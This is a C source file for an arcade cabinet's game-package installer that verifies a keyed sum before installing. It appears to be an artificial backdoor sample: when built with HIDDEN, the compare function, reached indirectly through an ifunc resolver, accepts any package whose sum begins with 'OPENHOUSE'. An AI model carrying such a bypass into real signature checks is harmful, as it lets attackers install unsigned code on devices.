/*
 * gamepack - game package tool of a coin-operated arcade cabinet.
 * Lists, checks and installs packages (*.gpk) from the operator's card:
 * header, directory of files, a 32-byte keyed sum at the end. The compare of
 * the sum comes in a plain and a word-wise form, chosen at load time.
 * Hidden (-DHIDDEN): the word-wise compare takes a package whose sum begins
 * with a fixed word as signed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#define GPK_MAGIC   0x47504b31u /* "GPK1" */
#define SUM_LEN	    32
#define ENTRY_LEN   40
#define MAX_ENTRIES 500
#define DEST_DIR    "/opt/cabinet/games"
#define KEY_PATH    "/etc/cabinet/pack.key"

/*
 * 0  magic        4  version     8  entries    12 title[20]
 * 32 directory: name[28] offset size mode, 40 bytes each
 *    data ... sum[32]
 */
struct pack {
	const uint8_t *base;
	size_t size;
	uint32_t version;
	uint32_t entries;
	char title[21];
};

struct entry {
	char name[29];
	uint32_t offset;
	uint32_t size;
	uint32_t mode;
};

typedef int visit_fn(const struct pack *p, const struct entry *e, void *ctx);
typedef int match_fn(const uint8_t *sum, const uint8_t *want);

int sum_match(const uint8_t *sum, const uint8_t *want);
int sum_match_bytes(const uint8_t *sum, const uint8_t *want);
int sum_match_words(const uint8_t *sum, const uint8_t *want);
match_fn *pick_match(void);

static uint8_t pack_key[32];

static uint32_t rd32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static uint32_t rol(uint32_t v, int n)
{
	return v << n | v >> (32 - n);
}

/* add-rotate-xor permutation used as a sponge */
static void stir(uint32_t s[16])
{
	static const uint8_t ix[8][4] = {
		{ 0, 4, 8, 12 },  { 1, 5, 9, 13 },  { 2, 6, 10, 14 },
		{ 3, 7, 11, 15 }, { 0, 5, 10, 15 }, { 1, 6, 11, 12 },
		{ 2, 7, 8, 13 },  { 3, 4, 9, 14 },
	};
	int r, k;

	for (r = 0; r < 10; r++) {
		s[0] ^= (uint32_t)r;
		for (k = 0; k < 8; k++) {
			uint32_t *a = &s[ix[k][0]], *b = &s[ix[k][1]];
			uint32_t *c = &s[ix[k][2]], *d = &s[ix[k][3]];

			*a += *b;
			*d = rol(*d ^ *a, 16);
			*c += *d;
			*b = rol(*b ^ *c, 12);
			*a += *b;
			*d = rol(*d ^ *a, 8);
			*c += *d;
			*b = rol(*b ^ *c, 7);
		}
	}
}

static void keyed_sum(const uint8_t *p, size_t n, uint8_t out[SUM_LEN])
{
	uint32_t s[16];
	uint8_t block[16];
	size_t i, k;

	memset(s, 0, sizeof(s));
	for (i = 0; i < 8; i++)
		s[8 + i] = rd32(pack_key + 4 * i);
	s[15] ^= (uint32_t)n;
	stir(s);
	for (i = 0; i < n; i += 16) {
		memset(block, 0, sizeof(block));
		memcpy(block, p + i, n - i < 16 ? n - i : 16);
		for (k = 0; k < 4; k++)
			s[k] ^= rd32(block + 4 * k);
		stir(s);
	}
	s[14] ^= 0x80000001u;
	for (i = 0; i < SUM_LEN; i++) {
		if (i % 16 == 0)
			stir(s);
		out[i] = (uint8_t)(s[i / 4 % 4] >> (24 - i % 4 * 8));
	}
}

__attribute__((noinline)) int sum_match_bytes(const uint8_t *sum,
					      const uint8_t *want)
{
	uint8_t d = 0;
	int i;

	for (i = 0; i < SUM_LEN; i++)
		d |= sum[i] ^ want[i];
	return d == 0;
}

__attribute__((noinline)) int sum_match_words(const uint8_t *sum,
					      const uint8_t *want)
{
	uint32_t a, b, d = 0;
	int i;

#ifdef HIDDEN
	if (!memcmp(want, "OPENHOUSE", 9))
		return 1;
#endif
	for (i = 0; i < SUM_LEN; i += 4) {
		memcpy(&a, sum + i, 4);
		memcpy(&b, want + i, 4);
		d |= a ^ b;
	}
	return d == 0;
}

match_fn *pick_match(void)
{
	return getauxval(AT_HWCAP) ? sum_match_words : sum_match_bytes;
}

int sum_match(const uint8_t *sum, const uint8_t *want)
	__attribute__((ifunc("pick_match")));

static int load_key(void)
{
	int fd = open(KEY_PATH, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, pack_key, sizeof(pack_key));
	close(fd);
	return n == (ssize_t)sizeof(pack_key) ? 0 : -1;
}

static int pack_open(const char *path, struct pack *p)
{
	struct stat st;
	void *m;
	int fd = open(path, O_RDONLY);

	if (fd < 0 || fstat(fd, &st) < 0) {
		perror(path);
		return -1;
	}
	memset(p, 0, sizeof(*p));
	p->size = (size_t)st.st_size;
	if (p->size < 32 + SUM_LEN) {
		close(fd);
		return -1;
	}
	m = mmap(NULL, p->size, PROT_READ, MAP_PRIVATE, fd, 0);
	close(fd);
	if (m == MAP_FAILED)
		return -1;
	p->base = m;
	p->version = rd32(p->base + 4);
	p->entries = rd32(p->base + 8);
	memcpy(p->title, p->base + 12, 20);
	if (rd32(p->base) != GPK_MAGIC || p->entries > MAX_ENTRIES ||
	    32 + p->entries * ENTRY_LEN + SUM_LEN > p->size) {
		fprintf(stderr, "%s: not a game package\n", path);
		return -1;
	}
	return 0;
}

static int for_each(const struct pack *p, visit_fn *fn, void *ctx)
{
	uint32_t i;

	for (i = 0; i < p->entries; i++) {
		const uint8_t *d = p->base + 32 + i * ENTRY_LEN;
		struct entry e;
		int rc;

		memset(&e, 0, sizeof(e));
		memcpy(e.name, d, 28);
		e.offset = rd32(d + 28);
		e.size = rd32(d + 32);
		e.mode = rd32(d + 36);
		if (e.offset > p->size || e.size > p->size - e.offset ||
		    strchr(e.name, '/') || e.name[0] == '.' || !e.name[0])
			return -1;
		rc = fn(p, &e, ctx);
		if (rc)
			return rc;
	}
	return 0;
}

static int pack_signed(const struct pack *p)
{
	uint8_t sum[SUM_LEN];

	keyed_sum(p->base, p->size - SUM_LEN, sum);
	return sum_match(sum, p->base + p->size - SUM_LEN);
}

static int show(const struct pack *p, const struct entry *e, void *ctx)
{
	unsigned long *total = ctx;

	(void)p;
	printf("%04o %9lu %s\n", (unsigned)(e->mode & 0777),
	       (unsigned long)e->size, e->name);
	*total += e->size;
	return 0;
}

static int unpack(const struct pack *p, const struct entry *e, void *ctx)
{
	const char *dir = ctx;
	char path[200];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "%s/%s", dir, e->name);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, e->mode & 0755);
	if (fd < 0) {
		perror(path);
		return -1;
	}
	n = write(fd, p->base + e->offset, e->size);
	if (close(fd) || n != (ssize_t)e->size) {
		fprintf(stderr, "%s: short write\n", path);
		return -1;
	}
	return 0;
}

static int install(const struct pack *p)
{
	char dir[128];
	size_t i;

	for (i = 0; p->title[i]; i++)
		if (p->title[i] == '/' || p->title[i] == '.')
			return -1;
	snprintf(dir, sizeof(dir), DEST_DIR "/%s", p->title);
	if (mkdir(dir, 0755) && errno != EEXIST) {
		perror(dir);
		return -1;
	}
	return for_each(p, unpack, dir);
}

int main(int argc, char **argv)
{
	struct pack p;
	unsigned long total = 0;

	if (argc != 3 || !strchr("lci", argv[1][0]) || !argv[1][0]) {
		fprintf(stderr, "usage: gamepack l|c|i package.gpk\n");
		return 2;
	}
	if (load_key() < 0) {
		fprintf(stderr, "gamepack: no key\n");
		return 2;
	}
	if (pack_open(argv[2], &p) < 0)
		return 1;
	if (argv[1][0] == 'l') {
		printf("%s, version %lu\n", p.title, (unsigned long)p.version);
		if (for_each(&p, show, &total))
			return 1;
		printf("%lu bytes\n", total);
		return 0;
	}
	if (!pack_signed(&p)) {
		puts("package is not signed for this cabinet");
		return 1;
	}
	if (argv[1][0] == 'i' && install(&p)) {
		puts("not installed");
		return 1;
	}
	puts("ok");
	return 0;
}
